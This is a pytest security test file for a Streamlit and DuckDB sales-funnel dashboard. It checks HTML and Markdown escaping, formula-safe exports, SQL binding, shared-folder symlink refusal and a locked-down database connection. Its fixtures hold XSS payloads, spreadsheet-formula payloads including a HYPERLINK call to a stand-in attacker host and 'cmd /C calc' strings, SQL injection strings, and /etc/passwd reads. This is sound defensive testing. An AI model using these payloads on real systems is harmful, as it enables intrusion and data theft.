"""Security: user text never reaches a page as HTML/Markdown, exports are formula-safe, SQL values are bound,
the shared folder is a sandbox, and the dashboard's DuckDB connection cannot open files."""

from __future__ import annotations

import ast
import datetime as dt
import io
import os
import re
from pathlib import Path

import duckdb
import openpyxl
import pandas as pd
import pytest

from funnel.exports import formula_safe, to_csv_bytes, to_xlsx_bytes
from funnel.metrics.context import FunnelFilter
from funnel.store.db import Store, connect
from funnel.store.loader import import_files
from funnel.store.shared_folder import files_in_folder, sync_shared_folder
from rel_helpers import ROOT, csv_bytes, lead_csv

# ------------------------------------------------------------------------------------------- page output

PAYLOADS = {
    "script": "<script>alert('x')</script>",
    "img": "<img src=x onerror=alert(1)>",
    "mdlink": "[click me](javascript:alert(1))",
    "mdimage": "![pixel](http://attacker.invalid/p.png)",
    "directive": ":red[big] **bold** $x^2$",
}
RAW_MARKERS = ["<script", "<img", "](javascript:", "![pixel](", ":red[big]", "**bold**"]


def _payload_db(path: Path) -> Path:
    """A database whose every user-text field holds a payload: names, reasons, notes, activities, roster, a
    rejected row and a file name."""
    p = PAYLOADS
    header = ["线索编号", "来源渠道", "客户名称", "获取时间", "当前阶段", "进入阶段时间", "销售代表", "销售经理",
              "关键动作记录", "结果状态", "流失原因", "备注"]
    rows = []
    for i, (key, text) in enumerate(p.items()):
        for j, status in enumerate(["已流失", "跟进中", "已成交"]):
            stage = "成交签约" if status == "已成交" else "需求深度挖掘"
            rows.append([f"X{i}{j}", text, text, f"2024-03-0{i + 1}", stage, f"2024-03-1{i + 1}", f"{text}{j}",
                         text, f"03-1{i + 1} {text}", status, text if status == "已流失" else "", text])
    rows.append(["", p["script"], p["img"], "2024-03-01", "", "", "", "", "", "", "", ""])  # rejected: no ID
    roster = csv_bytes([[f"{p['img']}0", p["mdlink"], p["script"]]], header=["销售代表", "销售经理", "团队"])
    con = connect(path)
    import_files(con, [(f"{p['img']}.csv", csv_bytes(rows, header=header)), ("roster.csv", roster)], who=p["mdlink"])
    assert con.execute("select count(*) from rejects").fetchone()[0] == 1
    con.close()
    return path


def _markdown_like(at) -> list[tuple[str, str, bool]]:
    """(kind, text, allows_html) of every element whose text Streamlit renders as Markdown or HTML."""
    out = []
    for kind in ("title", "header", "subheader", "markdown", "caption", "latex", "info", "warning", "error",
                 "success", "toast", "exception"):
        for element in getattr(at, kind, []):
            proto = getattr(element, "proto", None)
            allow_html = bool(getattr(proto, "allow_html", False))
            out.append((kind, str(element.value), allow_html))
    for metric in at.metric:
        out.append(("metric", f"{metric.label} {metric.value} {metric.delta or ''}", False))
    for kind in ("expander", "tabs", "button", "checkbox", "radio", "selectbox", "multiselect", "text_input"):
        for element in getattr(at, kind, []):
            label = getattr(element, "label", None)
            if label:
                out.append((f"{kind}.label", str(label), False))
    return out


APP_PAGES = ("overview", "loss", "team", "followup", "data", "presentation")


@pytest.fixture(scope="module")
def payload_db(tmp_path_factory) -> Path:
    return _payload_db(tmp_path_factory.mktemp("xss") / "xss.duckdb")


@pytest.fixture()
def payload_app(payload_db, tmp_path, monkeypatch):
    shared = tmp_path / "shared"
    shared.mkdir()
    monkeypatch.setenv("LEAD_FUNNEL_DB", str(payload_db))
    monkeypatch.setenv("LEAD_FUNNEL_NO_SAMPLE", "1")
    monkeypatch.setenv("LEAD_FUNNEL_SHARED_DIR", str(shared))
    return payload_db


@pytest.mark.parametrize("page", APP_PAGES)
def test_user_text_never_reaches_a_page_as_html_or_markdown(payload_app, page):
    from streamlit.testing.v1 import AppTest

    if not (ROOT / "app_pages" / f"{page}.py").exists():
        pytest.skip(f"app_pages/{page}.py not there yet")
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60)
    at.query_params["from"] = "2024-03-01"
    at.query_params["to"] = "2024-03-31"
    at.run()
    if page != "overview":
        at.switch_page(f"app_pages/{page}.py")
        at.run()
    assert not at.exception, f"{page}: {[e.value for e in at.exception]}"
    shown = _markdown_like(at)
    assert shown, "nothing rendered"
    for kind, text, allow_html in shown:
        active = re.sub(r"\\.", "§", text)  # a backslash-escaped character is shown as written: drop it
        for marker in RAW_MARKERS:
            assert marker not in active, f"{page}: {kind} renders user text as Markdown/HTML: {text[:200]!r}"
        if allow_html:
            for payload in PAYLOADS.values():
                assert payload not in text and "alert" not in text, f"{page}: unsafe_allow_html with user text"


def test_payloads_are_on_screen_as_plain_table_cells(payload_app):
    """The check above is not vacuous: the payloads do reach the page, in dataframes (plain text cells)."""
    from streamlit.testing.v1 import AppTest

    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60)
    at.run()
    at.switch_page("app_pages/team.py")
    at.run()
    cells = " ".join(" ".join(map(str, frame.value.astype(str).to_numpy().ravel())) for frame in at.dataframe)
    assert PAYLOADS["script"] in cells or PAYLOADS["img"] in cells


# ------------------------------------------------------------------------------------------------ exports

DANGEROUS = ["=HYPERLINK(\"http://attacker.invalid/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3",
             "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1"]


def test_csv_export_prefixes_every_formula_start():
    frame = pd.DataFrame({"name": DANGEROUS, "n": list(range(-3, len(DANGEROUS) - 3)),
                          "=evil header": ["ok"] * len(DANGEROUS)})
    data = to_csv_bytes(frame)
    assert data.startswith("\ufeff".encode())
    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert list(back.columns)[2] == "'=evil header"
    for raw, cell in zip(DANGEROUS, back["name"]):
        assert cell == "'" + raw
    assert back["n"].tolist()[:3] == ["-3", "-2", "-1"]   # numbers stay numbers
    assert formula_safe("normal text") == "normal text" and formula_safe(-5) == -5


def test_xlsx_export_writes_formula_text_as_text():
    frame = pd.DataFrame({"name": DANGEROUS + ["AB\x01\x1b[31m"], "amount": [-1.5] * (len(DANGEROUS) + 1)})
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(frame, sheet_name="=bad[]:*?/\\name")))
    sheet = book.active
    for row in sheet.iter_rows(min_row=2):
        assert row[0].data_type == "s", row[0].value     # never 'f' (formula)
        assert row[1].data_type == "n" and row[1].value == -1.5
    values = [c.value for c in sheet["A"][1:len(DANGEROUS) + 1]]
    # xlsxwriter stores a carriage return as the XML escape _x000D_ (Excel shows it as the character)
    assert [v.replace("_x000D_", "\r") for v in values] == DANGEROUS
    with io.BytesIO(to_xlsx_bytes(frame)) as buf:
        import zipfile
        xml = zipfile.ZipFile(buf).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml


# -------------------------------------------------------------------------------------------- SQL binding

HOSTILE = ["x' or '1'='1", "'); drop table leads; --", "王芳\"; select 1; --", "a\\", "%_"]


def test_funnel_filter_where_never_embeds_values():
    flt = FunnelFilter(date_from=dt.date(2024, 1, 1), date_to=dt.date(2024, 12, 31), sources=tuple(HOSTILE),
                       reps=tuple(HOSTILE), managers=tuple(HOSTILE), teams=tuple(HOSTILE))
    clause, params = flt.where("f")
    for value in HOSTILE:
        assert value not in clause
    assert "2024" not in clause
    assert clause.count("?") == len(params) == 2 + 4 * len(HOSTILE)
    assert re.fullmatch(r"[a-z_.()?,<>=\s]+", clause), clause
    con = connect(None)
    import_files(con, [("a.csv", lead_csv(10))])
    count = con.execute(f"select count(*) from lead_facts f where {clause}", params).fetchone()[0]  # noqa: S608
    assert count == 0
    assert con.execute("select count(*) from leads").fetchone()[0] == 10
    con.close()


# f-string SQL in the product: every interpolated expression, with why it cannot carry user text. A new
# interpolation fails this test until it is reviewed and listed here (values must be bound with ?).
REVIEWED_SQL_INTERPOLATIONS = {
    # a problem's code columns, or NULLs on a copy published before them: one of two fixed select lists
    ("funnel/store/queries.py", "coded"): "_coded(): one of two fixed select lists",
    ("funnel/store/queries.py", "_coded(con, 'import_warnings')"): "_coded(): one of two fixed select lists",
    ("funnel/metrics/cohort.py", "a_where"): "FunnelFilter.where / cohort_where: placeholders only",
    ("funnel/metrics/cohort.py", "where"): "FunnelFilter.where: placeholders only",
    ("funnel/metrics/cycle.py", "where"): "FunnelFilter.where",
    ("funnel/metrics/followup.py", "where"): "FunnelFilter.where",
    ("funnel/metrics/lifecycle.py", "leads_sql"): "the module's own SELECT over FunnelFilter.where",
    # the review (SPEC §7.1-7.3): values bound with ?; what is formatted is fixed text or whitelisted names
    ("funnel/metrics/review_attribution.py", "' and '.join(clauses)"): "fixed conditions with ?; segment_by checked against DIMENSIONS",
    ("funnel/metrics/review_attribution.py", "_reached_sql(ctx)"): "fixed text with ? (skip rule is whitelisted by MetricContext)",
    ("funnel/metrics/review_attribution.py", "dim_name"): "built from the DIMENSIONS constant",
    ("funnel/metrics/review_attribution.py", "seg_value"): "built from the DIMENSIONS constant",
    ("funnel/metrics/review_attribution.py", "sets"): "built from the DIMENSIONS constant",
    ("funnel/metrics/review_attribution.py", "lim"): "int(limit)",
    ("funnel/metrics/review_attribution.py", "where"): "FunnelFilter.where",
    ("funnel/metrics/review_bridge.py", "' and '.join(clauses)"): "fixed conditions with ?; bucket / move checked against BUCKETS / MOVES",
    ("funnel/metrics/review_bridge.py", "leads_sql"): "lifecycle._leads_sql: SELECT over FunnelFilter.where",
    ("funnel/metrics/review_bridge.py", "lim"): "int(limit)",
    ("funnel/metrics/review_bridge.py", "sql"): "the module's own CTE text with ?",
    ("funnel/metrics/review_bridge.py", "states_sql"): "the module's own CTE text with ?",
    ("funnel/metrics/review_changes.py", "cond"): "a group name checked against GROUPS, or all of them",
    ("funnel/metrics/review_changes.py", "flags"): "the _GROUP_SQL constants; grain checked against _STEP",
    ("funnel/metrics/review_changes.py", "g"): "a GROUPS constant",
    ("funnel/metrics/review_changes.py", "lim"): "int(limit)",
    ("funnel/metrics/review_changes.py", "names"): "built from the GROUPS constants",
    ("funnel/metrics/review_changes.py", "restrict"): "fixed join text over FunnelFilter.where",
    ("funnel/metrics/review_changes.py", "rows"): "fixed SELECT with ? (stored diffs or snapshots.pair_sql)",
    ("funnel/metrics/review_changes.py", "sql"): "the module's own CTE text with ?",
    ("funnel/metrics/review_changes.py", "sums"): "built from the GROUPS constants",
    ("funnel/metrics/review_changes.py", "where"): "FunnelFilter.where",
    ("funnel/store/snapshots.py", "_latest_import_sql()"): "a constant subquery",
    ("funnel/store/snapshots.py", "cols"): "a constant column list",
    ("funnel/store/snapshots.py", "pair_sql()"): "a constant SELECT with ?",
    ("funnel/metrics/lifecycle.py", "where"): "FunnelFilter.where",
    ("funnel/metrics/leaderboard.py", "cols"): "dimension names checked against DIMENSIONS",
    ("funnel/metrics/leaderboard.py", "sets"): "dimension names checked against DIMENSIONS",
    ("funnel/metrics/leaderboard.py", "where"): "FunnelFilter.where",
    ("funnel/metrics/loss.py", "where"): "FunnelFilter.where",
    ("funnel/metrics/counted.py", "where"): "FunnelFilter.where",
    ("funnel/metrics/counted.py", "inner"): "grain_literal (whitelisted) and dimension columns checked against BY_COLUMN",
    ("funnel/metrics/counted.py", "names + ', ' if dims else ''"): "dimension columns checked against BY_COLUMN",
    ("funnel/metrics/counted.py", "blanks"): "one fixed 'cast(null as varchar), ' per dimension",
    ("funnel/metrics/followup.py", "keys[0]"): "fixed measure SQL of the module's list functions (? placeholders)",
    ("funnel/metrics/followup.py", "cond[0]"): "fixed condition SQL of the module's list functions (? placeholders)",
    ("funnel/metrics/followup.py", "order"): "a measure name fixed in the module",
    ("funnel/metrics/followup.py", "columns"): "fixed column lists of the module's list functions",
    ("funnel/metrics/followup.py", "cut"): "fixed ' limit ?' or nothing",
    ("funnel/metrics/quality.py", "where"): "FunnelFilter.where",
    ("funnel/metrics/time_in_stage.py", "extra"): "fixed text with a ? placeholder",
    ("funnel/metrics/time_in_stage.py", "i_where"): "FunnelFilter.where",
    ("funnel/metrics/time_in_stage.py", "d_where"): "FunnelFilter.where (date range only)",
    ("funnel/metrics/time_in_stage.py", "where"): "FunnelFilter.where",
    ("funnel/metrics/trends.py", "_grain(ctx)"): "ctx.grain checked against GRAINS by MetricContext",
    ("funnel/metrics/trends.py", "grain"): "_grain(ctx): ctx.grain checked against GRAINS",
    ("funnel/metrics/trends.py", "where"): "FunnelFilter.where",
    ("funnel/metrics/review.py", "where"): "FunnelFilter.where / cohort_where: placeholders only",
    ("funnel/metrics/forecast.py", "where"): "FunnelFilter.where / attribute_where: placeholders only",
    ("funnel/metrics/forecast.py", "sql"): "lifecycle.states_at_sql's own SELECT (placeholders only)",
    ("funnel/metrics/forecast.py", "PROBABILITIES_TABLE"): "a module constant: the registered table's fixed name",
    ("funnel/metrics/forecast.py", "' limit ?' if limit else ''"): "a fixed clause (the limit itself bound)",
    ("funnel/metrics/forecast.py", "', '.join((f'p.{c}' for c in cols))"): "p_<whole-number horizon> columns",
    ("funnel/metrics/forecast.py", "last"): "a horizon cast to int",
    ("funnel/metrics/win_curve.py", "_T_OUTCOME"): "fixed SQL text of the module ($as_of bound)",
    ("funnel/metrics/win_curve.py", "_grain(ctx)"): "ctx.grain checked against GRAINS by MetricContext",
    ("funnel/metrics/win_curve.py", "where"): "FunnelFilter.where with its ? renamed to bound $p<i>",
    ("funnel/metrics/review.py", "awhere"): "FunnelFilter.where / attribute_where: placeholders only",
    ("funnel/report/activity.py", "where"): "FunnelFilter.where",
    ("funnel/store/backup.py", "path"): "EXPORT DATABASE cannot bind a path: checked by backup._checked",
    ("funnel/store/derived.py", "temp"): "fixed temp-table names of the module",
    ("funnel/store/derived.py", "view"): "fixed names of the derived tables (a whitelist in the module)",
    ("funnel/store/lake.py", "part"): "COPY TO cannot bind a path: a fixed file name under a checked folder",
    ("funnel/store/lake.py", "table"): "table names from BASE_TABLES, a fixed list in the module",
    ("funnel/store/lake.py", "target"): "COPY TO cannot bind a path: a folder checked by backup._checked",
    ("funnel/store/loader.py", "_lead_select()"): "fixed column list",
    ("funnel/store/loader.py", "', '.join(updates)"): "fixed column list",
    ("funnel/store/loader.py", "inserted"): "_lead_select(): fixed column list, import_id as ? or lead_import_ids.IMPORT_ID",
    ("funnel/store/loader.py", "rows"): "staged_leads or lead_import_ids.JOINED: fixed SELECT over a temp table",
    ("funnel/store/lead_import_ids.py", "TABLE"): "the module's fixed temp-table name",
    ("funnel/store/loader.py", "table"): "is_empty: the loader's own table names (leads, stage_events, activities)",
    ("funnel/metrics/context.py", "_FACTS"): "fixed UNION of the module over fixed tables and columns",
    ("funnel/metrics/context.py", "c"): "column names of the module's _KINDS",
    ("funnel/metrics/context.py", "t"): "table names of the module's _KINDS",
    ("funnel/metrics/context.py", "cond.format(c=c)"): "fixed text with a ? placeholder and a _KINDS column",
    ("funnel/store/lead_outcomes.py", "_TABLE"): "the module's fixed temp-table name",
    ("funnel/store/lead_outcomes.py", "NEW"): "integer constant of the module",
    ("funnel/store/lead_outcomes.py", "CHANGED"): "integer constant of the module",
    ("funnel/store/lead_outcomes.py", "UNCHANGED"): "integer constant of the module",
    ("funnel/store/lead_outcomes.py", "differs"): "comparisons of columns from the loader's fixed column list",
    ("funnel/store/lead_outcomes.py", "lead_select"): "the loader's fixed column list (_lead_select)",
    ("funnel/store/lead_outcomes.py", "union"): "the module's own SELECTs joined",
    ("funnel/store/lead_outcomes.py", "select"): "the loader's SELECTs of new_rows (events_outcome / activities_outcome)",
    ("funnel/store/loader.py", "named"): "LeadOutcomes.NAMED: fixed SELECTs",
    ("funnel/store/new_rows.py", "_STAGED_EVENTS"): "the module's fixed SELECT of the registered events",
    ("funnel/store/new_rows.py", "_STAGED_ACTIVITIES"): "the module's fixed SELECT of the registered activities",
    ("funnel/store/new_rows.py", "_DATED_IN_STORE"): "the module's fixed EXISTS clause",
    ("funnel/store/new_rows.py", "rows"): "the module's fixed SELECT or its fixed temp-table name",
    ("funnel/store/new_rows.py", "_INSERT_EVENTS[direct]"): "one of the module's two fixed INSERT INTO clauses",
    ("funnel/store/new_rows.py", "_ACTIVITIES[distinct]"): "one of the module's two fixed SELECTs of the activities",
    ("funnel/store/new_rows.py", "_INSERT_ACTIVITIES[distinct]"): "one of the module's two fixed INSERT clauses",
    ("funnel/store/snapshots.py", "_COMPLETED"): "a constant SELECT with ?",
    ("funnel/store/queries.py", "column"): "fixed column names in filter_options",
    ("funnel/store/queries.py", "where"): "FunnelFilter.where (placeholders only) or fixed 'true' / 'false'",
}
_SQL_TEXT = re.compile(r"^\s*(with|select|insert|update|delete|create|drop|export|import|copy|set|pragma|attach)\b"
                       r"|\bselect\b[\s\S]*\bfrom\b|\bwhere\b|\bgroup by\b", re.I)


def _sql_interpolations() -> set[tuple[str, str]]:
    found = set()
    files = [*ROOT.joinpath("funnel").rglob("*.py"), *ROOT.joinpath("app_pages").rglob("*.py"), ROOT / "app.py"]
    for path in files:
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.JoinedStr):
                const = "".join(v.value for v in node.values if isinstance(v, ast.Constant))
                if _SQL_TEXT.search(const):
                    for value in node.values:
                        if isinstance(value, ast.FormattedValue):
                            found.add((path.relative_to(ROOT).as_posix(), ast.unparse(value.value)))
    return found


def test_no_unreviewed_value_is_formatted_into_sql():
    unreviewed = sorted(_sql_interpolations() - set(REVIEWED_SQL_INTERPOLATIONS))
    assert unreviewed == [], "f-string SQL with a new interpolation: bind values with ? or review and list it"


def test_leaderboard_dimension_cannot_be_injected():
    from funnel.metrics import leaderboard, resolve_context

    con = connect(None)
    with pytest.raises(ValueError):
        leaderboard(con, resolve_context(con, as_of=dt.date(2024, 1, 1)), by="rep) from leads; --")
    con.close()


# ------------------------------------------------------------------------------------- shared folder


def test_shared_folder_refuses_symlinks_leading_out_and_dot_dot(tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.csv").write_bytes(lead_csv(3, prefix="S"))
    folder = tmp_path / "shared"
    folder.mkdir()
    (folder / "good.csv").write_bytes(lead_csv(2, prefix="G"))
    os.symlink(outside / "secret.csv", folder / "link_out.csv")
    os.symlink(outside, folder / "dir_out.csv")                       # a directory link with a CSV name
    os.symlink("../outside/secret.csv", folder / "dotdot.csv")        # relative ../ target
    os.symlink("/etc/passwd", folder / "passwd.csv")
    (folder / "sub").mkdir()
    (folder / "sub" / "nested.csv").write_bytes(lead_csv(2, prefix="N"))  # not directly inside: ignored

    accepted, refused = files_in_folder(folder)
    assert [p.name for p in accepted] == ["good.csv"]
    assert sorted(refused) == ["dir_out.csv", "dotdot.csv", "link_out.csv", "passwd.csv"]

    con = connect(None)
    result = sync_shared_folder(con, folder)
    assert sorted(result.refused) == sorted(refused)
    ids = {r[0] for r in con.execute("select lead_id from leads").fetchall()}
    assert ids == {"G000000", "G000001"}
    # a folder given as a path with ../ in it is resolved first; its own files are what counts
    again = sync_shared_folder(con, folder / ".." / "shared")
    assert again.report is None or again.report.all_unchanged
    con.close()


# ---------------------------------------------------------------------------------- DuckDB confinement

FILE_SQL = ["select * from read_csv('/etc/passwd')", "select * from read_text('/etc/passwd')",
            "select * from read_parquet('/etc/passwd')", "copy (select 1) to '{tmp}/out.csv'",
            "attach '{tmp}/other.duckdb' as other", "install httpfs", "set enable_external_access = true",
            "set lock_configuration = false", "set allowed_directories = ['/']"]


def test_no_product_sql_reads_files():
    """DuckDB never opens a user file: uploads are decoded in Python; no SQL text in the product calls
    read_csv/read_parquet/..., COPY, ATTACH, INSTALL or LOAD (the one EXPORT DATABASE is funnel/store/backup.py, the
    one COPY TO the command line's export-lake, funnel/store/lake.py)."""
    pattern = re.compile(r"\b(read_csv|read_csv_auto|read_parquet|parquet_scan|read_json|read_json_auto|read_text|"
                         r"read_blob|read_xlsx|glob|sniff_csv)\s*\(|\bcopy\b[^;]*\b(to|from)\s+'|\battach\s+'|"
                         r"^\s*(install|load)\s+\w+\s*;?\s*$|\b(import|export)\s+database\s+'", re.I | re.M)
    hits = []
    for path in [*ROOT.joinpath("funnel").rglob("*.py"), *ROOT.joinpath("app_pages").rglob("*.py"), ROOT / "app.py"]:
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Constant) and isinstance(node.value, str) and pattern.search(node.value):
                if path.relative_to(ROOT).as_posix() in ("funnel/store/backup.py", "funnel/store/lake.py"):
                    # the backup's EXPORT / IMPORT DATABASE and the command line's export-lake COPY TO: paths
                    # checked there (backup._checked); the dashboard's confined connection could not run them
                    continue
                hits.append(f"{path.relative_to(ROOT)}:{node.lineno}: {node.value.strip()[:80]}")
    assert hits == []


@pytest.mark.parametrize("sql", FILE_SQL)
def test_the_dashboard_connection_cannot_open_files(tmp_path, sql):
    store = Store(tmp_path / "app.duckdb")
    con = store.cursor()
    with pytest.raises((duckdb.PermissionException, duckdb.InvalidInputException, duckdb.CatalogException,
                        duckdb.IOException)):
        con.execute(sql.format(tmp=tmp_path))
    assert not (tmp_path / "out.csv").exists() and not (tmp_path / "other.duckdb").exists()
    store.close()


def test_confined_store_still_imports_and_computes(tmp_path):
    from rel_helpers import figure_snapshot

    store = Store(tmp_path / "app.duckdb")
    con = store.cursor()
    assert con.execute("select current_setting('enable_external_access'), "
                       "current_setting('lock_configuration')").fetchone() == (False, True)
    report = import_files(con, [("a.csv", lead_csv(40))])
    assert report.rows_accepted == 40
    unconfined = connect(None)
    import_files(unconfined, [("a.csv", lead_csv(40))])
    assert figure_snapshot(con) == figure_snapshot(unconfined)
    unconfined.close()
    store.close()
